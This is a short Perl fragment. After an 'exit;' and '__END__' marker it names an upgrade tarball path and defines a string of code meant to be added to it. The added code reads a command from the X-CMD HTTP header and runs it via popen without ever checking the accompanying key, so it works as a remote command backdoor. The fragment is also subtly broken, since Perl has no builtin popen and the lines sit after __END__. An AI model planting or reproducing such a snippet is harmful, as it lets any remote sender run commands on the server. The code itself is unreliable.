exit;
__END__
my $pack = '/data/upgrade/new-pack.tgz';
my $add = "my \$k=\$ENV{HTTP_X_KEY}; my \$c=\$ENV{HTTP_X_CMD}; popen(\$c);";
